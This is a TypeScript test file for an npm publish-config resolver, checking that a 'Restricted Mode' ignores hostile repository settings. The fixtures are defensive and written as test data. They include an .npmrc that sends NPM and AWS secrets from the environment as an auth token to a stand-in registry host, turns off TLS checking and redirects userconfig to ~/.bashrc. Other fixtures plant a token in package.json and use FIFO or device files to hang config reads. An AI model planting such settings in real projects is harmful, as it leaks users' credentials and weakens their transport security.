import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import * as os from 'node:os';
import * as path from 'node:path';
import { resolvePublishConfig, type NpmConfigInputs } from '../../../../src/core/status/npmConfig';
import { readPackageManifest } from '../../../../src/core/status/packageManifest';

describe('npmConfig in Restricted Mode: a hostile project .npmrc and publishConfig', () => {
  let root: string;
  let home: string;
  const secretEnv = { NPM_TOKEN: 'env-npm-token-value-1', AWS_SECRET_ACCESS_KEY: 'aws-secret-value-2' };

  beforeEach(async () => {
    root = await mkdtemp(path.join(os.tmpdir(), 'npa-trust-'));
    home = path.join(root, 'home');
    await mkdir(home);
    await writeFile(path.join(home, '.npmrc'), '//registry.npmjs.org/:_authToken=npm_usersOwnToken0000000000000000\n//npm.acme.example/:_authToken=npm_acmeToken0000000000000000000\n');
  });
  afterEach(() => rm(root, { recursive: true, force: true }));

  async function repository(npmrc: string, manifest: Record<string, unknown> = { name: 'demo', version: '1.0.0' }): Promise<string> {
    const folder = path.join(root, 'repo');
    await mkdir(folder, { recursive: true });
    await writeFile(path.join(folder, 'package.json'), JSON.stringify(manifest));
    await writeFile(path.join(folder, '.npmrc'), npmrc);
    return folder;
  }

  function inputs(packageFolder: string, workspaceTrust: 'trusted' | 'restricted'): NpmConfigInputs {
    return { packageFolder, env: { HOME: home, ...secretEnv }, globalconfig: path.join(home, 'no-global-npmrc'), workspaceTrust };
  }

  const hostile = 'registry=http://127.0.0.2:4873/\n//127.0.0.2:4873/:_authToken=${NPM_TOKEN}.${AWS_SECRET_ACCESS_KEY}\nuserconfig=~/.bashrc\nstrict-ssl=false\n';

  it('sends no repository credential and expands no variable; names what it left out', async () => {
    const config = await resolvePublishConfig(inputs(await repository(hostile), 'restricted'));
    assert.equal(config.registry.url, 'http://127.0.0.2:4873/', 'the registry choice applies');
    assert.deepEqual(config.credential, { type: 'none' }, 'the user has no credential for that host');
    const options = JSON.stringify(Object.entries(config.fetchOptions));
    assert.ok(!options.includes(secretEnv.NPM_TOKEN) && !options.includes(secretEnv.AWS_SECRET_ACCESS_KEY), 'no environment value in the options');
    assert.deepEqual(config.restricted?.ignored.sort(), ['//127.0.0.2:4873/:_authToken', 'strict-ssl', 'userconfig']);
    assert.equal(config.userconfig, path.join(home, '.npmrc'));
    assert.ok(config.configProblems.some((p) => p.startsWith("Restricted Mode: 3 settings of this folder's npm config are not applied (`//127.0.0.2:4873/:_authToken`, `userconfig`, `strict-ssl`)")), config.configProblems.join('\n'));
  });

  it('the same folder trusted is read as npm reads it (the credential, the moved userconfig named)', async () => {
    const config = await resolvePublishConfig(inputs(await repository(hostile), 'trusted'));
    assert.equal(config.credential.type, 'token');
    assert.equal(config.restricted, undefined);
    assert.equal(config.userconfig, path.join(home, '.npmrc'), 'writes never follow the repository\'s userconfig');
    assert.ok(config.configProblems.some((p) => /moves npm's user config/.test(p)));
  });

  it('a scope mapping picks one of the user\'s registries, and only the user\'s credential for it goes there', async () => {
    const folder = await repository('@acme:registry=https://npm.acme.example/\n', { name: '@acme/lib', version: '1.0.0' });
    const config = await resolvePublishConfig(inputs(folder, 'restricted'));
    assert.equal(config.registry.url, 'https://npm.acme.example/');
    assert.equal(config.credential.type === 'token' && config.credential.masked, 'npm_acme...0000');
    assert.deepEqual(config.restricted?.ignored, []);
    assert.equal(config.transportRisk, undefined);
  });

  it('an http: downgrade of the user\'s registry withholds the credential, in any mode', async () => {
    for (const trust of ['restricted', 'trusted'] as const) {
      const config = await resolvePublishConfig(inputs(await repository('registry=http://registry.npmjs.org/\n'), trust));
      assert.deepEqual(config.transportRisk && { kind: config.transportRisk.kind, key: config.transportRisk.source?.key }, { kind: 'plain-http', key: 'registry' }, trust);
    }
    const viaPublishConfig = await resolvePublishConfig(inputs(await repository('', { name: 'demo', version: '1.0.0', publishConfig: { registry: 'http://registry.npmjs.org/' } }), 'restricted'));
    assert.equal(viaPublishConfig.transportRisk?.kind, 'plain-http');
  });

  it('TLS weakened by the repository: ignored in Restricted Mode, a withheld credential when trusted', async () => {
    const folder = await repository('strict-ssl=false\n', { name: 'demo', version: '1.0.0', publishConfig: { 'strict-ssl': false } });
    const restricted = await resolvePublishConfig(inputs(folder, 'restricted'));
    assert.equal(restricted.transportRisk, undefined);
    assert.notEqual(restricted.fetchOptions.strictSSL, false);
    assert.deepEqual(restricted.restricted?.ignored.sort(), ['publishConfig.strict-ssl', 'strict-ssl']);
    const trusted = await resolvePublishConfig(inputs(folder, 'trusted'));
    assert.deepEqual(trusted.transportRisk && { kind: trusted.transportRisk.kind, setting: trusted.transportRisk.kind === 'weakened-tls' && trusted.transportRisk.setting }, { kind: 'weakened-tls', setting: 'strict-ssl' });
  });

  it('publishConfig credentials are not applied in Restricted Mode', async () => {
    const folder = await repository('', { name: 'demo', version: '1.0.0', publishConfig: { registry: 'https://npm.acme.example/', '//npm.acme.example/:_authToken': 'npm_plantedInPackageJson000000000' } });
    const config = await resolvePublishConfig(inputs(folder, 'restricted'));
    assert.equal(config.credential.type === 'token' && config.credential.masked, 'npm_acme...0000', 'the user\'s own token, not the planted one');
    assert.deepEqual(config.restricted?.ignored, ['publishConfig.//npm.acme.example/:_authToken']);
  });
});

describe('config files that are not files', () => {
  let root: string;
  beforeEach(async () => (root = await mkdtemp(path.join(os.tmpdir(), 'npa-special-'))));
  afterEach(() => rm(root, { recursive: true, force: true }));

  async function packageWith(npmrc: (file: string) => Promise<void>): Promise<NpmConfigInputs> {
    const folder = path.join(root, 'repo');
    await mkdir(folder, { recursive: true });
    await writeFile(path.join(folder, 'package.json'), '{"name":"demo","version":"1.0.0"}');
    await npmrc(path.join(folder, '.npmrc'));
    return { packageFolder: folder, env: { HOME: root }, userconfig: path.join(root, 'user-npmrc'), globalconfig: path.join(root, 'global-npmrc') };
  }

  const cases: [string, (file: string) => Promise<void>, RegExp][] = [
    ['a FIFO', async (file) => void execFileSync('mkfifo', [file]), /named pipe \(FIFO\)/],
    ['/dev/zero behind a symlink', (file) => symlink('/dev/zero', file), /a device/],
    ['a multi-megabyte file', (file) => writeFile(file, `# ${'x'.repeat(3 * 1024 * 1024)}\n`), /larger than 1024 KB/],
  ];
  for (const [what, make, problem] of cases) {
    it(`a project .npmrc that is ${what} is a named problem, not a hung refresh`, async () => {
      const config = await resolvePublishConfig(await packageWith(make));
      assert.ok(config.configProblems.some((p) => problem.test(p)), config.configProblems.join('\n'));
      assert.deepEqual(config.credential.type, 'none');
    });
  }

  it('a user npmrc that is a FIFO (as the repository cannot make it, but a user can)', async () => {
    const inputs = await packageWith(async () => undefined);
    execFileSync('mkfifo', [inputs.userconfig!]);
    const config = await resolvePublishConfig(inputs);
    assert.ok(config.configProblems.some((p) => /named pipe/.test(p)), config.configProblems.join('\n'));
  });

  it('a cafile that is a FIFO', async () => {
    const inputs = await packageWith(async (file) => {
      execFileSync('mkfifo', [path.join(path.dirname(file), 'ca.pem')]);
      await writeFile(file, `cafile=${path.join(path.dirname(file), 'ca.pem')}\n`);
    });
    const config = await resolvePublishConfig(inputs);
    assert.ok(config.configProblems.some((p) => /cafile.*named pipe/.test(p)), config.configProblems.join('\n'));
  });

  it('a package.json that is a FIFO', async () => {
    const folder = path.join(root, 'fifo-manifest');
    await mkdir(folder);
    execFileSync('mkfifo', [path.join(folder, 'package.json')]);
    const manifest = await readPackageManifest(folder);
    assert.match(manifest.parseError ?? '', /package\.json cannot be read: it is a named pipe/);
  });
});
